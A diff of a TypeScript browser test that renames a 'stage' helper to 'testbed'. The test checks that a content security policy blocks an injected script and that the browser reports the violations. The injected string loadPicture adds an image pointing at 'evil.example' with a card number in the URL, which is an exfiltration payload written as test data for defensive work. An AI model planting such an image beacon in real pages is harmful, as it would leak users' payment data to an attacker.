@@ -1,14 +1,14 @@
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
-import { openStage, type Stage } from "./stage.ts";
+import { openTestbed, type Testbed } from "./testbed.ts";
 
-let stage: Stage;
+let testbed: Testbed;
 before(async () => {
-  stage = await openStage();
+  testbed = await openTestbed();
 });
-after(() => stage.close());
+after(() => testbed.close());
 
-// As text, for they run in the page and not here.
+// Strings, because they run in the page.
 const loadPicture = `document.body.append(Object.assign(document.createElement("img"), {
   src: "https://evil.example/pixel?card=4242424242424242" }))`;
 const makeHtml = `(() => {
@@ -22,7 +22,7 @@ const makeHtml = `(() => {
 
 async function reported(): Promise<string[]> {
   for (let tries = 0; tries < 100; tries += 1) {
-    const rows = await stage.db.sql<{ kind: string }>(
+    const rows = await testbed.db.sql<{ kind: string }>(
       "SELECT concat_ws(' ', page, source, directive, blocked) AS kind FROM page_reports ORDER BY kind",
     );
     if (rows.length >= 2) return rows.map(({ kind }) => kind);
@@ -31,11 +31,11 @@ async function reported(): Promise<string[]> {
   return [];
 }
 
-test("what a smuggled script tries is kept from happening, and the browser reports it", async () => {
-  const session = await stage.createSession();
+test("the policy blocks an injected script's actions, and the browser reports them", async () => {
+  const session = await testbed.createSession();
   let html: unknown;
   let kinds: string[] = [];
-  const visit = stage.visit({ js: true, keepWindow: false }, async (page) => {
+  const visit = testbed.visit({ js: true, keepWindow: false }, async (page) => {
     await page.goto(session.url);
     await page.evaluate(loadPicture);
     html = await page.evaluate(makeHtml);
